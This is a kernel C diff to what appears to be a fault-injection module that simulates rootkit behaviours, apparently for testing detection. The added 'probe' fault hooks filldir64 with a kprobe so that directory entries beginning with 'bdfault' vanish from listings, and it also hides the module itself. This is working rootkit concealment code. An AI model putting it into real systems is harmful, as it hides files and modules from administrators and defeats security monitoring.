@@ -606,6 +606,43 @@ static void hook_fops_off(void)
 	proc_root = NULL;
 }
 
+/*
+ * The rootkit's third way: a kprobe whose handler is in a module that no list shows. What lists a directory does not come to a name that begins as
+ * this module's: the probed function, filldir64(ctx, name, ...), is left at once, and seems to have done its work.
+ */
+asm(".pushsection .text\n.type bdfault_leave, @function\nbdfault_leave:\n\tret\n\tint3\n.size bdfault_leave, .-bdfault_leave\n.popsection\n");
+extern void bdfault_leave(void);
+
+static int hide_name(struct kprobe *p, struct pt_regs *regs)
+{
+	atomic_inc(&calls);
+	if (strncmp((const char *)regs->si, "bdfault", 7))
+		return 0;
+	regs->ax = true;
+	regs->ip = (unsigned long)bdfault_leave;
+	return 1;
+}
+
+static struct kprobe spy = { .symbol_name = "filldir64", .pre_handler = hide_name };
+static bool spies;
+
+static void probe(void)
+{
+	spies = !register_kprobe(&spy);
+	hide_module();
+}
+
+static void probe_off(void)
+{
+	hide_module_off();
+	if (spies)
+		unregister_kprobe(&spy);
+	spies = false;
+	memset(&spy, 0, sizeof(spy));
+	spy.symbol_name = "filldir64";
+	spy.pre_handler = hide_name;
+}
+
 static struct fault {
 	const char *name;
 	void (*on)(void);
@@ -640,6 +677,7 @@ static struct fault {
 	{ "hook-fops", hook_fops, hook_fops_off },
 	{ "hide-module", hide_module, hide_module_off },
 	{ "hide-task", hide_task, hide_task_off },
+	{ "probe", probe, probe_off },
 };
 
 static ssize_t fault_write(struct file *file, const char __user *from, size_t n, loff_t *pos)
